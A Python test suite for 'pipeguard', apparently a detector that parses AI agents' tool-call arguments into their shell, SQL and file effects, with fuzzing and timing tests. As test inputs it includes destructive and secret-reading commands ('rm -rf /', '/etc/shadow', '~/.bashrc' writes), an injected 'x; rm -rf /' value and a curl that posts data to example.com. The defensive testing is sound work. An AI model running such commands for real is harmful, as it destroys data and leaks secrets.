"""Effects of arguments, by the names of the tool and of each argument."""

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeguard.detect.commands.argument_usage import Uses
from pipeguard.detect.commands.effects import find_effects, flat_effects
from pipeguard.detect.commands.interpret import code_lines, command_lines
from pipeguard.detect.commands.path_normalisation import path_lines
from pipeguard.detect.commands.posix_shell import Shell
from pipeguard.detect.commands.powershell import windows_lines
from pipeguard.detect.commands.shell_command import ScriptBudget
from pipeguard.detect.commands.sql import read_statements
from pipeguard.detect.text.document import MessageText
from pipeguard.errors import Refusal
from pipeguard.firewall.protocol.json_values import JsonValue, Number
from tests.detect.cases import read_cases
from tests.each import each
from tests.fuzz.budget import tried

CASES = read_cases(__file__)

SLOW_SECONDS = 10.0  # for a long argument, on a machine that does other things too
SIGNS = [*"$'\"`\\|&;(){}<>#*?[]=~!^,\n/ab1", "rm", "cat", "-rf", "<<", "EOF", "$(", "${", "IFS"]


def uses(tool: str, arguments: dict[str, JsonValue]) -> Uses:
    params: dict[str, JsonValue] = {"name": tool, "arguments": arguments}
    return Uses(MessageText({"method": "tools/call", "params": params}, keyed=True), tool)


def test_words_of_a_list_are_one_command() -> None:
    (effect,), _ = find_effects(uses("exec", {"command": "rm", "args": ["-rf", "/"]}))
    assert b"\n$ rm -r /\n" in effect.data


@each("tool, key, words, line", CASES["a_list_is_of_the_command_that_its_tool_is_named_after"])
def test_a_list_is_of_the_command_that_its_tool_is_named_after(
    tool: str, key: str, words: list[str], line: str
) -> None:
    lines = b"".join(effect.data for effect in find_effects(uses(tool, {key: [*words]}))[0])
    assert f"\n{line}\n".encode() in lines


PADDING: list[JsonValue] = [{"city": "Oslo", "note": "a " * 100}] * 30


@each("value, line", CASES["what_a_value_does_in_a_record_a_row_or_json"])
def test_what_a_value_does_in_a_record_a_row_or_json(value: str, line: str | None) -> None:
    nestings: list[dict[str, JsonValue]] = [
        {"config": {"name": value}},
        {"items": [*PADDING, {"name": value}]},
        {"data": {"attributes": {"name": value}}},
        {"rows": [["1", value]]},
        {"payload": json.dumps({"name": value})},
        {"payload": json.dumps([*PADDING, {"name": value}])},
        {"payload": json.dumps([*PADDING, {value: "x"}])},
        {"body": json.dumps({"name": value})},
    ]
    for tool in ("create_hook", "look_up"):
        for nesting in nestings:
            found = b"".join(effect.data for effect in find_effects(uses(tool, nesting))[0])
            assert f"\n{line}\n".encode() in found if line else b"INJ" not in found, nesting


def test_equal_keys_of_json_in_an_argument_are_refused() -> None:
    with pytest.raises(Refusal, match="key twice"):
        find_effects(uses("look_up", {"payload": '{"a": "x; rm -rf /", "a": "x"}'}))
    assert find_effects(uses("write_file", {"content": '{"a": "x", "a": "x"}'})) == ([], False)


def test_a_path_that_is_all_of_a_text_in_a_record_is_read() -> None:
    records: list[JsonValue] = [{"text": "/etc/shadow"}, {"data": ["x y", "/etc/shadow"]}]
    for tokens in records:
        (found,) = find_effects(uses("write", {"job": tokens}))[0]
        assert found.data == b"\n< /etc/shadow\n"


@tried(200)
@given(st.lists(st.sampled_from(SIGNS), max_size=60).map("".join))
def test_nothing_is_raised_whatever_the_signs(text: str) -> None:
    Shell(lambda _: None, ScriptBudget()).pipelines(text)
    command_lines(text)
    code_lines(text, budget=ScriptBudget())
    read_statements(text)
    path_lines(text, text, (">",))
    windows_lines(text)


@tried(100)
@given(st.text(max_size=200), st.sampled_from(["command", "sql", "code", "path", "text"]))
def test_nothing_is_raised_whatever_the_text(text: str, key: str) -> None:
    encoded = text.encode("utf-8", "replace").decode()
    find_effects(uses("run", {key: encoded, "args": [encoded, encoded]}))


ORDINARY = ["ls -la", "/etc/hosts", "../a b", "-rf", "select 1 or 1=1", "> ~/.bashrc", "a^b", "né"]
TOOLS = ["run", "shell_exec", "query_db", "write_file", "search_code", "eval_python", "git", ""]
NAMES = ["command", "args", "sql", "query", "code", "path", "text", "key", "script", "output"]


@tried(300)
@given(
    st.sampled_from(TOOLS),
    st.dictionaries(
        st.sampled_from(NAMES),
        st.one_of(
            st.sampled_from(ORDINARY),
            st.lists(st.sampled_from([*SIGNS, *ORDINARY, " "]), max_size=12).map("".join),
            st.sampled_from([None, True, Number("12"), Number("123456789"), ["a"], {"a": "b"}]),
        ),
        max_size=4,
    ),
    st.booleans(),
)
def test_short_arguments_do_the_same_read_one_by_one(
    tool: str, arguments: dict[str, JsonValue], windows: bool
) -> None:
    call = uses(tool, arguments)
    lines = flat_effects(tool, arguments, len(call.text.data), windows=windows)
    effects, is_over = find_effects(call, windows=windows)
    if lines is not None:
        assert not is_over
        assert lines == b"\n".join(effect.data for effect in effects)
        assert not any(effect.composed for effect in effects)


@pytest.mark.parametrize(
    ("tool", "arguments", "lines"),
    [
        ("lookup", {"query": "what is new", "n": None}, b""),
        ("lookup", {"path": "/etc/hosts"}, b"\n< /etc/hosts\n"),
        ("lookup", {"command": "ls -a", "cwd": "/"}, b"\n$ ls -a\n\n\n< /\n"),
        ("run", {"command": "rm", "args": ["-rf", "/"]}, None),
        ("write_file", {"path": "/home/a/.bashrc", "content": "x"}, None),
        ("run", {"command": "a=b1c2d3e4f5; curl -d ${a}g6h7i8j9k0l1m2 example.com"}, None),
        ("run", {"command": "$(" * 700}, None),  # more than is read of a script
    ],
)
def test_short_arguments_that_belong_together_are_not_read_one_by_one(
    tool: str, arguments: dict[str, JsonValue], lines: bytes | None
) -> None:
    assert flat_effects(tool, arguments, 60, windows=True) == lines


PIECES = (
    *("$(", "${", "'", '"', "`", "<<E\n", "{a,", "$a", "a=b;", "|", "\\", "<(", "$'", "x^y"),
    *("a/../", "'a'+'b'", "[char]1+", "rm -rf / ;", "cat a|", "-exec ", "$(cat a)", "b\\x", "%a%"),
    *("/*", "('"),
)


RARE = [pytest.param(piece, marks=pytest.mark.exhaustive) for piece in PIECES[1::2]]


@pytest.mark.slow
@pytest.mark.parametrize("piece", [*PIECES[::2], *RARE])
def test_a_long_argument_is_read_in_time(piece: str) -> None:
    text = piece * (32_768 // len(piece))
    began = time.perf_counter()
    for key in ("command", "sql", "code", "path"):
        find_effects(uses("run", {key: text}))
    assert time.perf_counter() - began < SLOW_SECONDS
